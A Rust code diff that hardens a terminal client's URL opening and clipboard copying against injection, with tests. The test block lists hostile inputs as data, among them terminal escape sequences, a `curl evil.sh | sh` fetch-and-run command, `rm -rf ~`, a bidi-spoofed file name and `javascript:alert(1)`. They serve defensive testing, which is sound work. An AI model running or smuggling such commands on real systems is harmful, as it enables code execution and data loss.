@@ -10,7 +10,7 @@ use crossterm::clipboard::CopyToClipboard;
 
 use super::state::Turn;
 use crate::model::citations::Attribution;
-use crate::render::sanitize::sanitize_line;
+use crate::render::sanitize::{is_unsafe, sanitize_line};
 
 /// The conversation as one Markdown document: each turn's question, then its answer with footnotes.
 pub fn conversation_markdown(turns: &[Turn]) -> String {
@@ -90,11 +90,16 @@ pub fn export(turns: &[Turn]) -> io::Result<PathBuf> {
         })
 }
 
-/// Only web URLs are handed to the browser opener.
+/// Only web URLs are handed to the browser opener or copied: `http` or `https` with a host, and not
+/// one control, whitespace, bidi or invisible character (any of which could turn a paste into a
+/// command, or make the URL read as another).
 pub fn is_web_url(url: &str) -> bool {
     let lower = url.to_ascii_lowercase();
     (lower.starts_with("https://") || lower.starts_with("http://"))
-        && !url.chars().any(|c| c.is_control() || c.is_whitespace())
+        && !url
+            .chars()
+            .any(|c| c.is_control() || c.is_whitespace() || is_unsafe(c))
+        && reqwest::Url::parse(url).is_ok_and(|parsed| parsed.host_str().is_some())
 }
 
 /// Open `url` with the platform opener, detached (no terminal, no waiting in the caller). The returned
@@ -130,9 +135,20 @@ pub fn open_url(url: &str, on_failure: impl FnOnce(String) + Send + 'static) -> 
     Ok(())
 }
 
-/// Put `text` on the system clipboard through the terminal: one OSC 52 sequence (its payload is
-/// base64, so the text cannot inject escapes), flushed.
-pub fn copy_to_clipboard(out: &mut impl Write, text: &str) -> io::Result<()> {
+/// Put `url` on the system clipboard through the terminal, when it is a web URL ([`is_web_url`]):
+/// a source's URL comes from the network, and a pasted one must not run anything.
+pub fn copy_to_clipboard(out: &mut impl Write, url: &str) -> io::Result<()> {
+    if !is_web_url(url) {
+        return Err(io::Error::new(
+            io::ErrorKind::InvalidInput,
+            "only an http(s) URL without control or invisible characters can be copied",
+        ));
+    }
+    write_clipboard(out, url)
+}
+
+/// One OSC 52 sequence (its payload is base64, so the text cannot inject escapes), flushed.
+fn write_clipboard(out: &mut impl Write, text: &str) -> io::Result<()> {
     crossterm::execute!(out, CopyToClipboard::to_clipboard_from(text))
 }
 
@@ -153,7 +169,7 @@ mod tests {
             ("hi", "aGk="),
         ] {
             let mut out = Vec::new();
-            copy_to_clipboard(&mut out, input).unwrap();
+            write_clipboard(&mut out, input).unwrap();
             // ESC ] 52 ; c ; <base64> ST: crossterm ends the OSC with the string terminator
             // (ESC backslash), which terminals take like the BEL this used to write.
             assert_eq!(out, format!("\x1b]52;c;{expected}\x1b\\").as_bytes());
@@ -166,6 +182,33 @@ mod tests {
         assert!(!is_web_url("file:///etc/passwd"));
         assert!(!is_web_url("https://x.com/\x1b]"));
         assert!(!is_web_url("-h"));
+        assert!(!is_web_url("https://"));
+    }
+
+    #[test]
+    fn only_a_clean_web_url_is_copied() {
+        let mut out = Vec::new();
+        copy_to_clipboard(&mut out, "https://example.com/a?b=c#d").unwrap();
+        assert_eq!(
+            out,
+            b"\x1b]52;c;aHR0cHM6Ly9leGFtcGxlLmNvbS9hP2I9YyNk\x1b\\".as_slice()
+        );
+        for hostile in [
+            "https://x.com/\x1b]52;c;ZWNobyBoaQ==\x07",
+            "https://x.com/a\x07b",
+            "https://x.com/\u{9b}31m",
+            "https://x.com/\rcurl evil.sh | sh",
+            "https://x.com/a\nrm -rf ~",
+            "https://x.com/\u{202E}txt.exe",
+            "https://x.com/\u{200B}",
+            "javascript:alert(1)",
+            "ftp://x.com/file",
+            "echo pwned",
+        ] {
+            let mut out = Vec::new();
+            assert!(copy_to_clipboard(&mut out, hostile).is_err(), "{hostile:?}");
+            assert!(out.is_empty(), "{hostile:?} reached the terminal");
+        }
     }
 
     #[test]
